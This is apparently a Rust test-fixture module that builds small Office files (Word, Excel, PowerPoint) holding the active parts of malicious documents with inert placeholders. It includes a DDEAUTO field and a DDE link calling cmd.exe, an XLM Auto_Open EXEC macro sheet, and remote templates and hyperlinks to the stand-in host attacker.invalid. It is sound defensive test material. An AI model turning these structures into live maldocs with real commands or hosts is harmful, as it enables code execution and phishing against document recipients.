//! Inert Office Open XML inputs built in code: the smallest packages Word,
//! Excel, PowerPoint and LibreOffice accept, with the active parts a
//! malicious file carries (fake VBA, ActiveX, OLE, macro sheets, external
//! links, DDE fields). Nothing here runs or fetches anything.

use std::io::Write;

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

pub const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG_R: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const MS_R: &str = "http://schemas.microsoft.com/office/2006/relationships";
const OD: &str = "application/vnd.openxmlformats-officedocument";
pub const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const X: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const P: &str = "http://schemas.openxmlformats.org/presentationml/2006/main";
const A: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";

/// A package under construction: parts, their content types, relationships.
pub struct Pkg {
    parts: Vec<(String, Vec<u8>)>,
    overrides: Vec<(String, String)>,
    defaults: Vec<(String, String)>,
    rels: Vec<(String, String)>,
    method: CompressionMethod,
}

impl Pkg {
    pub fn new() -> Self {
        Self {
            parts: Vec::new(),
            overrides: Vec::new(),
            defaults: vec![
                (
                    "rels".into(),
                    "application/vnd.openxmlformats-package.relationships+xml".into(),
                ),
                ("xml".into(), "application/xml".into()),
                ("png".into(), "image/png".into()),
            ],
            rels: Vec::new(),
            method: CompressionMethod::Deflated,
        }
    }

    /// A part with an Override content type (`None`: by extension).
    pub fn part(
        mut self,
        name: &str,
        content_type: Option<&str>,
        data: impl Into<Vec<u8>>,
    ) -> Self {
        if let Some(ct) = content_type {
            self.overrides.push((name.into(), ct.into()));
        }
        self.parts.push((name.into(), data.into()));
        self
    }

    pub fn default(mut self, ext: &str, content_type: &str) -> Self {
        self.defaults.push((ext.into(), content_type.into()));
        self
    }

    /// A relationship of `source` ("" for the root). `kind` is a full type
    /// URI or a suffix of the transitional officeDocument namespace.
    pub fn rel(mut self, source: &str, id: &str, kind: &str, target: &str, external: bool) -> Self {
        let kind = if kind.contains("://") {
            kind.to_owned()
        } else {
            format!("{R}/{kind}")
        };
        let mode = if external {
            r#" TargetMode="External""#
        } else {
            ""
        };
        let line = format!(r#"<Relationship Id="{id}" Type="{kind}" Target="{target}"{mode}/>"#);
        self.rels.push((source.into(), line));
        self
    }

    pub fn stored(mut self) -> Self {
        self.method = CompressionMethod::Stored;
        self
    }

    pub fn build(&self) -> Vec<u8> {
        let mut zip = ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = SimpleFileOptions::default().compression_method(self.method);
        let mut types = String::from(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">"#,
        );
        for (ext, ct) in &self.defaults {
            types += &format!(r#"<Default Extension="{ext}" ContentType="{ct}"/>"#);
        }
        for (name, ct) in &self.overrides {
            types += &format!(r#"<Override PartName="/{name}" ContentType="{ct}"/>"#);
        }
        types += "</Types>";
        zip.start_file("[Content_Types].xml", options).unwrap();
        zip.write_all(types.as_bytes()).unwrap();
        let mut sources: Vec<&str> = self.rels.iter().map(|(s, _)| s.as_str()).collect();
        sources.sort_unstable();
        sources.dedup();
        for source in sources {
            let name = match source.rsplit_once('/') {
                Some((dir, file)) => format!("{dir}/_rels/{file}.rels"),
                None => format!("_rels/{source}.rels"),
            };
            let mut xml = format!(
                r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG_R}">"#
            );
            for (_, line) in self.rels.iter().filter(|(s, _)| s == source) {
                xml += line;
            }
            xml += "</Relationships>";
            zip.start_file(name, options).unwrap();
            zip.write_all(xml.as_bytes()).unwrap();
        }
        for (name, data) in &self.parts {
            zip.start_file(name, options).unwrap();
            zip.write_all(data).unwrap();
        }
        zip.finish().unwrap().into_inner()
    }
}

/// A 1×1 PNG.
pub fn png() -> Vec<u8> {
    const HEX: &str = "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489\
                       0000000d49444154789c63f8cfc0f01f00050001ff89993d1d0000000049454e44ae426082";
    (0..HEX.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&HEX[i..i + 2], 16).unwrap())
        .collect()
}

fn xml(body: &str) -> String {
    format!(r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{body}"#)
}

fn core_props() -> String {
    xml(
        r#"<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Inert test</dc:title></cp:coreProperties>"#,
    )
}

/// A Word document body with paragraphs of the given inner XML.
pub fn word_document(paragraphs: &str) -> String {
    xml(&format!(
        r#"<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>{paragraphs}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>"#
    ))
}

pub fn run(text: &str) -> String {
    format!(r#"<w:r><w:t xml:space="preserve">{text}</w:t></w:r>"#)
}

/// A complex field: begin, instruction, separate, result, end.
pub fn field(instruction: &str, result: &str) -> String {
    format!(
        r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>"#,
        run(result)
    )
}

/// A plain docx with this body.
pub fn docx_with(paragraphs: &str) -> Pkg {
    Pkg::new()
        .part(
            "word/document.xml",
            Some(&format!("{OD}.wordprocessingml.document.main+xml")),
            word_document(paragraphs),
        )
        .part(
            "docProps/core.xml",
            Some("application/vnd.openxmlformats-package.core-properties+xml"),
            core_props(),
        )
        .rel("", "rId1", "officeDocument", "word/document.xml", false)
        .rel(
            "",
            "rId2",
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml",
            false,
        )
}

pub fn docx() -> Vec<u8> {
    docx_with(&format!("<w:p>{}</w:p>", run("Hello 日本語 world"))).build()
}

/// A docm: VBA project (with its vbaData), an ActiveX control, an OLE
/// object with an embedding, customUI, custom properties, an external
/// hyperlink, a DDEAUTO field and a DDE simple field.
pub fn docm() -> Vec<u8> {
    let body = format!(
        concat!(
            "<w:p>{hello}</w:p>",
            r#"<w:p><w:hyperlink r:id="rId3" w:history="1">{link}</w:hyperlink></w:p>"#,
            "<w:p>{dde}</w:p>",
            r#"<w:p><w:fldSimple w:instr=" DDE Excel Sheet1 R1C1">{simple}</w:fldSimple></w:p>"#,
            r#"<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" style="width:72pt;height:72pt"><v:imagedata r:id="rId5" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId6"/></w:object></w:r></w:p>"#,
            r#"<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1026" style="width:72pt;height:72pt"><v:imagedata r:id="rId5" o:title=""/></v:shape><w:control r:id="rId7" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>"#,
            "<w:p>{tail}</w:p>",
        ),
        hello = run("Hello 日本語 world"),
        link = run("link text"),
        dde = field(
            r#" DDEAUTO c:\\windows\\system32\\cmd.exe "/k echo inert" "#,
            "dde result"
        ),
        simple = run("simple result"),
        tail = run("The end."),
    );
    docx_with(&body)
        .part("word/settings.xml", Some(&format!("{OD}.wordprocessingml.settings+xml")), xml(&format!(r#"<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>"#)))
        .rel("word/settings.xml", "rId1", "attachedTemplate", "https://attacker.invalid/template.dotm", true)
        .part("word/vbaProject.bin", None, b"inert fake VBA project: Sub AutoOpen() End Sub".to_vec())
        .part("word/vbaData.xml", Some("application/vnd.ms-word.vbaData+xml"), xml(r#"<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>"#))
        .rel("word/vbaProject.bin", "rId1", &format!("{MS_R}/wordVbaData"), "vbaData.xml", false)
        .part("word/media/image1.png", None, png())
        .part("word/embeddings/oleObject1.bin", None, b"inert fake OLE object".to_vec())
        .part("word/activeX/activeX1.xml", Some("application/vnd.ms-office.activeX+xml"), xml(r#"<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>"#))
        .part("word/activeX/activeX1.bin", Some("application/vnd.ms-office.activeX"), b"inert fake ActiveX".to_vec())
        .rel("word/activeX/activeX1.xml", "rId1", &format!("{MS_R}/activeXControlBinary"), "activeX1.bin", false)
        .part("customUI/customUI14.xml", None, xml(r#"<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>"#))
        .part("docProps/custom.xml", Some(&format!("{OD}.custom-properties+xml")), xml(r#"<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>"#))
        .part("word/orphan.xml", Some(&format!("{OD}.wordprocessingml.styles+xml")), xml("<x/>"))
        .default("bin", "application/vnd.ms-office.vbaProject")
        .override_main(&format!("{OD}.wordprocessingml.document.main+xml"), "application/vnd.ms-word.document.macroEnabled.main+xml")
        .rel("word/document.xml", "rId1", "settings", "settings.xml", false)
        .rel("word/document.xml", "rId2", &format!("{MS_R}/vbaProject"), "vbaProject.bin", false)
        .rel("word/document.xml", "rId3", "hyperlink", "https://attacker.invalid/phish", true)
        .rel("word/document.xml", "rId5", "image", "media/image1.png", false)
        .rel("word/document.xml", "rId6", "oleObject", "embeddings/oleObject1.bin", false)
        .rel("word/document.xml", "rId7", "control", "activeX/activeX1.xml", false)
        .rel("", "rId3", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false)
        .rel("", "rId4", "custom-properties", "docProps/custom.xml", false)
        .build()
}

impl Pkg {
    /// Replaces one Override content type by another.
    pub fn override_main(mut self, from: &str, to: &str) -> Self {
        for (_, ct) in &mut self.overrides {
            if ct == from {
                *ct = to.into();
            }
        }
        self
    }
}

/// A plain docx whose settings pull a remote template.
pub fn docx_remote_template() -> Vec<u8> {
    docx_with(&format!("<w:p>{}</w:p>", run("Template test")))
        .part("word/settings.xml", Some(&format!("{OD}.wordprocessingml.settings+xml")), xml(&format!(r#"<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>"#)))
        .rel("word/settings.xml", "rId1", "attachedTemplate", "https://attacker.invalid/template.dotm", true)
        .rel("word/document.xml", "rId1", "settings", "settings.xml", false)
        .build()
}

/// An xlsm: a worksheet, an XLM macro sheet run by an Auto_Open name, a
/// VBA project, an external workbook link with a DDE link, a data
/// connection, and an external hyperlink on a cell.
pub fn xlsm() -> Vec<u8> {
    let workbook = xml(&format!(
        r#"<workbook xmlns="{X}" xmlns:r="{R}"><bookViews><workbookView/></bookViews><sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId4"/></externalReferences><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Kept">Data!$A$1</definedName><definedName name="Gone">Macro1!$A$2</definedName></definedNames></workbook>"#
    ));
    let sheet = xml(&format!(
        r#"<worksheet xmlns="{X}" xmlns:r="{R}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Kept cell 日本語</t></is></c><c r="B1"><v>42</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>"#
    ));
    let macro_sheet = xml(&format!(
        r#"<xm:macrosheet xmlns="{X}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("inert")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"#
    ));
    let external = xml(&format!(
        r#"<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="/c echo inert"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>"#
    ));
    Pkg::new()
        .part("xl/workbook.xml", Some("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), workbook)
        .part("xl/worksheets/sheet1.xml", Some(&format!("{OD}.spreadsheetml.worksheet+xml")), sheet)
        .part("xl/macrosheets/sheet1.xml", Some("application/vnd.ms-excel.macrosheet+xml"), macro_sheet)
        .part("xl/vbaProject.bin", None, b"inert fake VBA project".to_vec())
        .part("xl/externalLinks/externalLink1.xml", Some(&format!("{OD}.spreadsheetml.externalLink+xml")), external)
        .part("xl/connections.xml", Some(&format!("{OD}.spreadsheetml.connections+xml")), xml(&format!(r#"<connections xmlns="{X}"><connection id="1" name="q" type="5" refreshOnLoad="1"><dbPr connection="Provider=inert" command="SELECT 1"/></connection></connections>"#)))
        .part("docProps/core.xml", Some("application/vnd.openxmlformats-package.core-properties+xml"), core_props())
        .default("bin", "application/vnd.ms-office.vbaProject")
        .rel("", "rId1", "officeDocument", "xl/workbook.xml", false)
        .rel("", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", false)
        .rel("xl/workbook.xml", "rId1", "worksheet", "worksheets/sheet1.xml", false)
        .rel("xl/workbook.xml", "rId2", &format!("{MS_R}/xlMacrosheet"), "macrosheets/sheet1.xml", false)
        .rel("xl/workbook.xml", "rId3", &format!("{MS_R}/vbaProject"), "vbaProject.bin", false)
        .rel("xl/workbook.xml", "rId4", "externalLink", "externalLinks/externalLink1.xml", false)
        .rel("xl/workbook.xml", "rId5", "connections", "connections.xml", false)
        .rel("xl/worksheets/sheet1.xml", "rId1", "hyperlink", "https://attacker.invalid/", true)
        .build()
}

const THEME: &str = r#"<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="T"><a:themeElements><a:clrScheme name="C"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1><a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4><a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink><a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme><a:fontScheme name="F"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="M"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="25400"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="38100"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"#;

fn group() -> &'static str {
    r#"<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"#
}

/// A pptm: one slide with text, an ActiveX control on it, a VBA project,
/// an OLE object frame and a click action that runs a macro.
pub fn pptm() -> Vec<u8> {
    let ns = format!(r#"xmlns:a="{A}" xmlns:r="{R}" xmlns:p="{P}""#);
    let presentation = xml(&format!(
        r#"<p:presentation {ns}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>"#
    ));
    let master = xml(&format!(
        r#"<p:sldMaster {ns}><p:cSld><p:spTree>{g}</p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>"#,
        g = group()
    ));
    let layout = xml(&format!(
        r#"<p:sldLayout {ns}><p:cSld><p:spTree>{g}</p:spTree></p:cSld></p:sldLayout>"#,
        g = group()
    ));
    let slide = xml(&format!(
        concat!(
            r#"<p:sld {ns}><p:cSld><p:spTree>{g}"#,
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="Text"><a:hlinkClick r:id="" action="ppaction://macro?name=AutoOpen"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="8229600" cy="1143000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>Slide text 日本語</a:t></a:r></a:p></p:txBody></p:sp>"#,
            r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="3000000"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj spid="_x0000_s1026" name="Packager" r:id="rId4" imgW="914400" imgH="914400" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"#,
            r#"</p:spTree><p:controls><p:control spid="_x0000_s1025" name="CheckBox1" r:id="rId3" imgW="914400" imgH="304800"/></p:controls></p:cSld></p:sld>"#,
        ),
        g = group(),
        ns = ns,
    ));
    Pkg::new()
        .part("ppt/presentation.xml", Some("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"), presentation)
        .part("ppt/slideMasters/slideMaster1.xml", Some(&format!("{OD}.presentationml.slideMaster+xml")), master)
        .part("ppt/slideLayouts/slideLayout1.xml", Some(&format!("{OD}.presentationml.slideLayout+xml")), layout)
        .part("ppt/slides/slide1.xml", Some(&format!("{OD}.presentationml.slide+xml")), slide)
        .part("ppt/theme/theme1.xml", Some(&format!("{OD}.theme+xml")), xml(THEME))
        .part("ppt/activeX/activeX1.xml", Some("application/vnd.ms-office.activeX+xml"), xml(r#"<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"/>"#))
        .part("ppt/embeddings/oleObject1.bin", None, b"inert fake OLE object".to_vec())
        .part("ppt/vbaProject.bin", None, b"inert fake VBA project".to_vec())
        .default("bin", "application/vnd.ms-office.vbaProject")
        .rel("", "rId1", "officeDocument", "ppt/presentation.xml", false)
        .rel("ppt/presentation.xml", "rId1", "slideMaster", "slideMasters/slideMaster1.xml", false)
        .rel("ppt/presentation.xml", "rId2", "slide", "slides/slide1.xml", false)
        .rel("ppt/presentation.xml", "rId3", "theme", "theme/theme1.xml", false)
        .rel("ppt/presentation.xml", "rId4", &format!("{MS_R}/vbaProject"), "vbaProject.bin", false)
        .rel("ppt/slideMasters/slideMaster1.xml", "rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", false)
        .rel("ppt/slideMasters/slideMaster1.xml", "rId2", "theme", "../theme/theme1.xml", false)
        .rel("ppt/slideLayouts/slideLayout1.xml", "rId1", "slideMaster", "../slideMasters/slideMaster1.xml", false)
        .rel("ppt/slides/slide1.xml", "rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", false)
        .rel("ppt/slides/slide1.xml", "rId3", "control", "../activeX/activeX1.xml", false)
        .rel("ppt/slides/slide1.xml", "rId4", "oleObject", "../embeddings/oleObject1.bin", false)
        .build()
}
